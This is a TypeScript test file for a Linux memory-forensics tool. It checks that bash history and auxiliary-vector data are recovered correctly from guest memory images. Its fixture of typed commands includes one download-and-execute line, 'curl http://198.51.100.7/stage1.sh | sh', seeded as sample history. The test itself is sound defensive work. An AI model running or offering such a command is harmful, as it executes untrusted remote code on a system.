import { expect, it } from 'vitest';
import auxv from '../../../src/analysis/linux/auxv.js';
import bash from '../../../src/analysis/linux/bash.js';
import { byNumber, onEveryImage } from '../on-every-image.js';
import { userTruth } from './standing.js';

/** What the guest's bash was sent, a line a second (guest/zoo.c, m_bash). */
const TYPED = [
  'echo MARKER-HIST-ONE > /tmp/bash_out',
  'cd /tmp && export ZOOVAR=marker-var',
  'cat /etc/zoo.conf | head -1',
  'curl http://198.51.100.7/stage1.sh | sh',
  'sleep 54321 &',
  "echo 'multi word arg' last-command",
];

const NS_PER_SECOND = 1_000_000_000n;

onEveryImage('bash', (opened) => {
  it('recovers what was typed, in its order', async () => {
    const shell = userTruth(opened().truth).find(({ exe }) => exe === '/bin/bash')!;
    const rows = await opened().rows(bash);
    expect(rows.map(({ pid, index, command }) => ({ pid, index, command }))).toEqual(
      TYPED.map((command, place) => ({ pid: shell.pid, index: place + 1, command })),
    );
  });

  it('gives the times at which it was typed', async () => {
    const { truth } = opened();
    const shell = userTruth(truth).find(({ exe }) => exe === '/bin/bash')!;
    const boot = BigInt(
      truth.sections
        .get('stat')!
        .find((line) => line.startsWith('btime '))!
        .slice(6),
    );
    const started = boot + BigInt(Math.floor(shell.stat.startTicks / 100));
    const seconds = (await opened().rows(bash)).map(({ time }) => time! / NS_PER_SECOND);
    for (const [place, second] of seconds.entries()) {
      if (place > 0) expect(second).toBeGreaterThanOrEqual(seconds[place - 1]!);
    }
    expect(seconds[0]).toBeGreaterThanOrEqual(started);
    // A line a second; a guest with little processor time may read two of them in one.
    expect(seconds[5]! - seconds[0]!).toBeGreaterThanOrEqual(4n);
    // The fifth command started a process, whose start the kernel knows.
    const sleep = userTruth(truth).find(({ cmdline }) => cmdline[1] === '54321')!;
    // Boot time and entry time are cut to seconds, and bash took part of another to start it.
    const ran = Number(boot) + sleep.stat.startTicks / 100;
    expect(ran).toBeGreaterThan(Number(seconds[4]) - 1);
    expect(ran).toBeLessThan(Number(seconds[4]) + 2);
  });

  it('finds nothing in a process that is no shell', async () => {
    const zoo = userTruth(opened().truth).find(({ cmdline }) => cmdline[1] === 'files')!;
    expect(await opened().rows(bash, { pid: [zoo.pid] })).toEqual([]);
  });
});

onEveryImage('auxv', (opened) => {
  it('says who ran what, and where the kernel put it', async () => {
    const rows = byNumber(await opened().rows(auxv), 'pid');
    const truth = userTruth(opened().truth).filter(({ pid }) => pid !== 1);
    const found = truth.map(({ pid }) => {
      const value = (name: string) => rows.get(pid)?.find((row) => row.name === name)?.value;
      return { pid, vdso: value('sysinfo_ehdr'), pagesz: value('pagesz'), clktck: value('clktck') };
    });
    expect(found).toEqual(
      truth.map(({ pid, maps }) => ({
        pid,
        vdso: maps!.find(({ path }) => path === '[vdso]')!.start,
        pagesz: 4096n,
        clktck: 100n,
      })),
    );
    // A copy that was run from elsewhere keeps the name it was run by.
    const deleted = truth.find(({ exe }) => exe === '/tmp/delexe (deleted)')!;
    expect(rows.get(deleted.pid)?.find(({ name }) => name === 'execfn')?.text).toBe('/tmp/delexe');
    const platforms = new Set(
      [...rows.values()]
        .flat()
        .filter(({ name }) => name === 'platform')
        .map(({ text }) => text),
    );
    expect(platforms).toEqual(new Set([opened().kernel.is64Bit ? 'x86_64' : 'i686']));
  });
});
